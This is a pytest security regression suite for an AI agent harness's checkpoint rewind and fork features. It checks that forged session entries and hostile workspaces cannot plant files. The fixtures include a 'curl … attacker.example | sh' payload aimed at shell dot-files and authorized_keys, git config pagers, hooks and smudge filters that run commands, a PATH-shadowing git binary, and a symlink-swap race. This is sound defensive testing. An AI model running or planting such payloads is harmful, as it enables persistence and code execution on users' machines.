"""Holes an attacker's trial of issue 26 found (docs/security.md, "Checkpoints, rewinds and
forks with files"): each attacked with a hand-written checkpoint entry (a downloaded session)
or a hostile workspace, with real files, real git and real processes."""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from workspaces import call, git, hostile, make_harness, seed, state

from harness import (
    AgentHarness,
    Cancel,
    CheckpointError,
    CheckpointStore,
    CustomEntry,
    FauxReply,
    JsonlSessionRepo,
    RewindCancelledError,
    RewindRefusedError,
    Session,
    SessionBeforeRewindEvent,
)
from harness._checkpoints.fork import COPY_ENTRIES_PER_SCAN, materialize
from harness._checkpoints.records import MAX_CHANGES
from harness._checkpoints.rewind import COMPARE_MAX_BYTES
from harness._checkpoints.scan import Workspace

# --- F9: the home folder's dot-files ---------------------------------------------------------


@pytest.mark.parametrize("home_at", [".", "home/me"])
async def test_a_rewind_never_writes_the_home_folders_dot_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, home_at: str
) -> None:
    ws = seed(tmp_path / "ws", "plain")
    home = (ws / home_at).resolve()
    home.mkdir(parents=True, exist_ok=True)
    monkeypatch.setenv("HOME", str(home))
    prefix = "" if home_at == "." else home_at + "/"
    session = await JsonlSessionRepo(tmp_path / "sessions").create(str(ws))
    harness = make_harness(session, ws)
    store = harness.checkpoints
    assert store is not None
    payload = state(store, b"curl -s https://attacker.example/x | sh\n")
    dots = [".bashrc", ".profile", ".ssh/authorized_keys", ".config/autostart/x.desktop"]
    hostile(
        session,
        [
            *({"path": prefix + p, "before": payload, "after": None} for p in dots),
            {"path": prefix + "notes.txt", "before": payload, "after": None},
        ],
    )

    with pytest.raises(RewindRefusedError) as refused:
        await harness.rewind_files(None)
    assert sorted(u.split(" (")[0] for u in refused.value.unsafe) == sorted(
        prefix + p for p in dots
    )
    result = await harness.rewind_files(None, force=True)

    assert result.restored == (prefix + "notes.txt",)
    for p in dots:
        assert not (home / p).exists()
    assert (home / "notes.txt").exists()
    session.close()


# --- The recheck's residual A: a git folder the rewind itself would make ----------------------


@pytest.mark.parametrize("folder", ["vendor/evil.git", ""])
async def test_a_rewind_never_makes_a_git_folder_out_of_one_entrys_paths(
    tmp_path: Path, folder: str
) -> None:
    ws = seed(tmp_path / "ws", "plain")
    session = await JsonlSessionRepo(tmp_path / "sessions").create(str(ws))
    harness = make_harness(session, ws)
    store = harness.checkpoints
    assert store is not None
    prefix = f"{folder}/" if folder else ""
    config = state(store, b"[core]\n\tbare = true\n\tpager = id > /tmp/pager-ran; cat\n")
    made = {
        prefix + "HEAD": state(store, b"ref: refs/heads/main\n"),
        prefix + "config": config,
        prefix + "objects/k": state(store, b"x\n"),
        prefix + "refs/k": state(store, b"x\n"),
    }
    others = {"notes.txt": state(store, b"notes\n")}
    hostile(
        session,
        [{"path": p, "before": s, "after": None} for p, s in {**made, **others}.items()],
    )

    # Before: each path was judged alone, no git folder was there yet: all four written, and
    # git ran the config's pager at its next command in that folder.
    with pytest.raises(RewindRefusedError) as refused:
        await harness.rewind_files(None)
    # every path written in that folder; the working folder's: every path written
    refused_paths = sorted([*made, *([] if folder else others)])
    assert sorted(u.split(" (")[0] for u in refused.value.unsafe) == refused_paths
    assert all("git folder" in u for u in refused.value.unsafe)
    result = await harness.rewind_files(None, force=True)

    assert result.restored == (("notes.txt",) if folder else ())
    assert not any((ws / p).exists() for p in made)
    session.close()


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_a_fork_never_writes_into_a_bare_repository_its_copy_left_unrecognised(
    tmp_path: Path,
) -> None:
    ws = seed(tmp_path / "ws", "git")
    git(ws, "init", "-q", "--bare", "fixtures/remote.git")  # untracked, objects/ refs/ empty
    repo = JsonlSessionRepo(tmp_path / "sessions")
    session = await repo.create(str(ws))
    harness = make_harness(session, ws)
    store = harness.checkpoints
    assert store is not None
    hook = state(store, b"#!/bin/sh\nid > /tmp/hook-ran\n", 0o755)
    made = {f"made.git/{name}": state(store, b"x\n") for name in ("HEAD", "objects/k", "refs/k")}
    hostile(
        session,
        [
            {"path": "fixtures/remote.git/hooks/pre-receive", "before": None, "after": hook},
            *({"path": p, "before": None, "after": s} for p, s in made.items()),
            {"path": "notes.txt", "before": None, "after": state(store, b"notes\n")},
        ],
    )

    fork = await harness.fork(repo, None, workspace=tmp_path / "fork")

    copy = tmp_path / "fork"
    # Before: the worktree left out the empty objects/ and refs/, so the copy's folder was
    # no git folder, and the hook was written there; a set of paths making one was written.
    assert not (copy / "fixtures/remote.git/hooks/pre-receive").exists()
    assert not any((copy / p).exists() for p in made)
    assert (copy / "notes.txt").read_text() == "notes\n"
    fork.close()
    session.close()


async def test_a_rewind_never_writes_into_a_folder_of_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = seed(tmp_path / "ws", "plain")  # the home folder, say, with ~/bin on $PATH
    (ws / "bin").mkdir()
    monkeypatch.setenv("PATH", f"{ws / 'bin'}{os.pathsep}{os.environ['PATH']}")
    session = await JsonlSessionRepo(tmp_path / "sessions").create(str(ws))
    harness = make_harness(session, ws)
    store = harness.checkpoints
    assert store is not None
    payload = state(store, b"#!/bin/sh\nid > /tmp/ran\n", 0o755)
    hostile(
        session,
        [
            {"path": "bin/git", "before": payload, "after": None},
            {"path": "bin/sub/x", "before": payload, "after": None},
            {"path": "notes.txt", "before": payload, "after": None},
        ],
    )

    # Before: bin/git was written, and the user's next `git` ran it.
    with pytest.raises(RewindRefusedError) as refused:
        await harness.rewind_files(None)
    assert sorted(u.split(" (")[0] for u in refused.value.unsafe) == ["bin/git", "bin/sub/x"]
    assert all("$PATH" in u for u in refused.value.unsafe)
    result = await harness.rewind_files(None, force=True)
    assert result.restored == ("notes.txt",)
    assert not (ws / "bin" / "git").exists()
    session.close()


# --- F1: a kernel file named by an absolute path ---------------------------------------------


def cli(cwd: Path, *args: str | Path, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The harness CLI as a real process (a blocked read must be seen as one)."""
    return subprocess.run(
        [sys.executable, "-m", "harness.cli", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "COLUMNS": "300"},
        timeout=timeout,
        check=False,
    )


async def recorded(
    tmp_path: Path, kind: str = "plain"
) -> tuple[Path, Path, Session, str, AgentHarness]:
    """A workspace, its sessions root, and a session with one write (its first entry's id)."""
    ws = seed(tmp_path / "ws", kind)
    root = tmp_path / "sessions"
    session = await JsonlSessionRepo(root).create(str(ws))
    harness = make_harness(
        session, ws, [FauxReply(tool_calls=[call("write", path="a.txt", content="1\n")]), "ok"]
    )
    await harness.prompt("go")
    first = session.entry_ids()[0]
    return ws, root, session, first, harness


@pytest.mark.skipif(
    not os.access("/proc/kmsg", os.R_OK), reason="/proc/kmsg is readable by root only"
)
async def test_a_rewind_never_reads_a_kernel_file_named_by_an_absolute_path(
    tmp_path: Path,
) -> None:
    ws, root, session, first, _ = await recorded(tmp_path)
    empty = {"sha256": hashlib.sha256(b"").hexdigest(), "mode": 0o644, "size": 0}
    hostile(session, [{"path": "/proc/kmsg", "before": empty, "after": None}])
    assert session.id is not None

    # Before: the read of /proc/kmsg blocked (and took the kernel's log); SIGTERM did not end it.
    done = cli(ws, "rewind", "--root", root, session.id, first, "--files-only", timeout=30)

    assert done.returncode == 1 and "error[rewind_refused]" in done.stderr
    assert "/proc/kmsg (on a kernel file system" in done.stderr
    session.close()


async def test_a_rewind_reads_outside_files_to_compare_only_up_to_its_byte_cap(
    tmp_path: Path,
) -> None:
    _, _, session, first, harness = await recorded(tmp_path)
    big = tmp_path / "big.bin"
    with open(big, "wb") as f:
        f.truncate(60 * 1024**2)  # sparse: as at the target, and cheap to make
    whole = {"sha256": hashlib.sha256(big.read_bytes()).hexdigest(), "mode": 0o644}
    links = [tmp_path / f"link{i}.bin" for i in range(6)]
    for link in links:
        os.link(big, link)
    hostile(
        session,
        [{"path": str(p), "before": {**whole, "size": 60 * 1024**2}, "after": None} for p in links],
    )

    # Before: every one was read (a thousand names of one 64 MiB file read 64 GB).
    with pytest.raises(RewindRefusedError) as refused:
        await harness.rewind_files(first)

    assert COMPARE_MAX_BYTES == 256 * 1024**2
    assert [u.split(" (")[0] for u in refused.value.unsafe] == [str(p) for p in links[4:]]
    session.close()


# --- F2: how many paths a session file names --------------------------------------------------


async def test_a_session_naming_too_many_paths_is_refused_and_many_are_judged_fast(
    tmp_path: Path,
) -> None:
    _, _, session, first, harness = await recorded(tmp_path)
    store = harness.checkpoints
    assert store is not None
    hi = state(store, b"hi\n")
    many = [{"path": f"n{i}/x{i}.txt", "before": hi, "after": None} for i in range(3000)]
    hostile(session, many)

    planned: list[float] = []

    def timed(sender: object, event: SessionBeforeRewindEvent) -> Cancel:
        planned.append(time.monotonic())  # the plan is made: what is timed
        return Cancel(reason="only timing the plan")

    disconnect = harness.connect("session_before_rewind", timed)
    # Before: each path cost 5-12 ms (the protected folders found again for each), so 3,000
    # took 15-36 s, and 100,000 (a 16 MB line) ran for minutes.
    started = time.monotonic()
    with pytest.raises(RewindCancelledError):
        await harness.rewind_files(first, force=True)
    assert planned[0] - started < 6
    disconnect()

    too_many = MAX_CHANGES + 1
    entry = hostile(
        session, [{"path": f"m{i}", "before": None, "after": hi} for i in range(too_many)]
    )
    with pytest.raises(RewindRefusedError) as refused:
        await harness.rewind_files(first)
    assert f"entry {entry}: {too_many} changes, more than {MAX_CHANGES}: not read" in (
        refused.value.unsafe
    )
    # The distinct paths of all the entries together are capped too.
    hostile(session, [{"path": f"p{i}", "before": None, "after": hi} for i in range(8000)])
    with pytest.raises(RewindRefusedError) as refused:
        await harness.rewind_files(first)
    assert any(f"cap of {MAX_CHANGES} distinct paths" in u for u in refused.value.unsafe)
    session.close()


# --- F4: a tracked symlink or submodule in git's index ---------------------------------------


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_a_tracked_symlink_the_index_drops_is_missed_not_recorded_as_a_file(
    tmp_path: Path,
) -> None:
    ws = seed(tmp_path / "ws", "git")
    (ws / "lnk").symlink_to("keep.txt")
    git(ws, "add", "lnk")
    git(ws, "commit", "-qm", "a link")
    session = await JsonlSessionRepo(tmp_path / "sessions").create(str(ws))
    replies = [FauxReply(tool_calls=[call("bash", command="git rm -q lnk")]), "done"]
    harness = make_harness(session, ws, replies)
    await harness.prompt("remove the link")
    assert not os.path.lexists(ws / "lnk")

    [entry] = [e for e in session.entries() if isinstance(e, CustomEntry)]
    assert isinstance(entry.data, dict)
    # Before: recorded as a regular file of mode 0 holding the link's text, which a rewind
    # then wrote (`---------- lnk` containing "keep.txt").
    assert [c["path"] for c in entry.data["changes"]] == []
    assert [m["path"] for m in entry.data["missed"]] == ["lnk"]
    result = await harness.rewind_files(None, force=True)
    assert not os.path.lexists(ws / "lnk")
    assert [m.path for m in result.missed] == ["lnk"]
    session.close()


# --- F10: a repository's filter at a fork's checkout -------------------------------------------


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_a_fork_with_files_never_runs_the_repositorys_smudge_filter(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    marker = tmp_path / "filter-ran"
    git(ws, "init", "-q")
    (ws / ".gitattributes").write_text("*.txt filter=ev\n")
    (ws / "a.txt").write_text("hi\n")
    git(ws, "add", ".")
    git(ws, "commit", "-qm", "i")
    git(ws, "config", "filter.ev.smudge", f"sh -c 'id > {marker}; cat'")
    git(ws, "config", "filter.ev.clean", "cat")
    repo = JsonlSessionRepo(tmp_path / "sessions")
    session = await repo.create(str(ws))
    replies = [FauxReply(tool_calls=[call("bash", command="echo x > b.md")]), "done"]
    harness = make_harness(session, ws, replies)
    await harness.prompt("go")
    assert not marker.exists()  # the scans ran none

    fork = await harness.fork(repo, None, workspace=tmp_path / "fork")

    # Before: `git worktree add` ran the smudge program, unsandboxed, as the user.
    assert not marker.exists()
    assert (tmp_path / "fork" / "a.txt").read_text() == "hi\n"
    assert (tmp_path / "fork" / "b.md").read_text() == "x\n"
    fork.close()
    session.close()


# --- F8: permission bits the user narrowed ------------------------------------------------------


async def test_a_rewind_never_widens_the_permission_bits_the_user_narrowed(
    tmp_path: Path,
) -> None:
    ws = seed(tmp_path / "ws", "plain")
    session = await JsonlSessionRepo(tmp_path / "sessions").create(str(ws))
    replies = [
        FauxReply(tool_calls=[call("write", path="secrets.env", content="TOKEN=v1\n")]),
        FauxReply(tool_calls=[call("write", path="secrets.env", content="TOKEN=v2\n")]),
        FauxReply(tool_calls=[call("write", path="run.sh", content="#!/bin/sh\necho 2\n")]),
        "done",
    ]
    harness = make_harness(session, ws, replies)
    await harness.prompt("write")
    first = next(e.id for e in session.entries() if isinstance(e, CustomEntry))
    (ws / "secrets.env").chmod(0o600)
    (ws / "run.sh").chmod(0o700)

    result = await harness.rewind_files(first)

    assert sorted(result.restored) == ["run.sh", "secrets.env"]
    assert (ws / "secrets.env").read_text() == "TOKEN=v1\n"
    # Before: 0644 again, readable by every local user.
    assert stat.S_IMODE((ws / "secrets.env").stat().st_mode) == 0o600
    assert stat.S_IMODE((ws / "run.sh").stat().st_mode) == 0o700  # still executable, by its owner
    session.close()


# --- F6: a fork's copy of a folder outside git -------------------------------------------------


# Waits until the fork's copy of FOLDER exists (the walk has listed it as a folder), then
# swaps FOLDER for a symlink to TARGET: the swap lands between listing and walking.
SWAP_WHEN_LISTED = """
import os, shutil, sys, time
folder, target, copy, ready = sys.argv[1:5]
open(ready, "w").close()
deadline = time.monotonic() + 60
while not os.path.isdir(copy) and time.monotonic() < deadline:
    pass
shutil.rmtree(folder)
os.symlink(target, folder)
"""


def test_a_forks_copy_never_walks_a_folder_swapped_for_a_symlink(tmp_path: Path) -> None:
    ws = seed(tmp_path / "ws", "plain")
    for i in range(300):  # a long walk: the other folders are walked between listing dd and dd
        (ws / f"s{i:03}").mkdir()
        (ws / f"s{i:03}" / "f.bin").write_bytes(b"x" * 20_000)
    outside = tmp_path / "outside"
    (outside / "secretdir").mkdir(parents=True)
    (outside / "secretdir" / "key.txt").write_text("key\n")
    workspace = Workspace(ws, CheckpointStore(tmp_path / "store"), git=None)
    proved = escaped = 0
    for rounds in range(20):
        if proved >= 3:
            break
        shutil.rmtree(ws / "dd", ignore_errors=True)
        (ws / "dd").unlink(missing_ok=True)
        (ws / "dd").mkdir()
        (ws / "dd" / "mine.txt").write_text("mine\n")
        fork, ready = tmp_path / f"fork{rounds}", tmp_path / f"ready{rounds}"
        swapper = subprocess.Popen(
            [
                sys.executable,
                "-c",
                SWAP_WHEN_LISTED,
                str(ws / "dd"),
                str(outside),
                str(fork / "dd"),
                str(ready),
            ]
        )
        while not ready.exists():
            assert swapper.poll() is None, "the swapper died"
            time.sleep(0.01)
        materialize(workspace, fork, {})
        assert swapper.wait(timeout=60) == 0
        assert (ws / "dd").is_symlink()
        copied = fork / "dd"
        assert copied.is_dir() and not copied.is_symlink()  # dd was listed as a folder
        # Before: the walk went on by path, through the symlink swapped in.
        escaped += (copied / "secretdir").exists()
        # Walked before the swap (dd came early in the walk): this round proved nothing.
        proved += not (copied / "mine.txt").exists()
        shutil.rmtree(fork)

    assert escaped == 0
    assert proved > 0, "the walk reached dd before every swap: the race proved nothing"


def test_a_forks_copy_of_a_huge_folder_stops_at_its_cap(tmp_path: Path) -> None:
    ws = seed(tmp_path / "ws", "plain")
    for i in range(150):
        (ws / "sub" / f"f{i}").write_text("x")
    workspace = Workspace(ws, CheckpointStore(tmp_path / "store"), git=None, max_files=1)
    assert COPY_ENTRIES_PER_SCAN * workspace.max_files == 100

    with pytest.raises(CheckpointError, match="more than 100 entries"):
        materialize(workspace, tmp_path / "fork", {})
    assert not (tmp_path / "fork").exists()  # removed again


# --- F5: a FIFO git opens ----------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_after_one_git_timeout_the_workspace_is_scanned_without_git(tmp_path: Path) -> None:
    ws = seed(tmp_path / "ws", "git")
    os.mkfifo(ws / ".gitignore")  # git status opens it, and waits for a writer
    workspace = Workspace(ws, CheckpointStore(tmp_path / "store"), git_timeout_s=2)

    snapshot = workspace.before()  # waits for git once
    assert snapshot.kind == "stat" and workspace.git_timed_out
    (ws / "a.txt").write_text("a\n")
    changes, _, _ = workspace.after(snapshot)
    assert [c.path for c in changes] == ["a.txt"]

    # Before: every later call waited git's timeout again (60 s each), in every session there.
    started = time.monotonic()
    snapshot = workspace.before()
    (ws / "b.txt").write_text("b\n")
    changes, _, _ = workspace.after(snapshot)
    assert time.monotonic() - started < 1.5
    assert snapshot.kind == "stat" and [c.path for c in changes] == ["b.txt"]
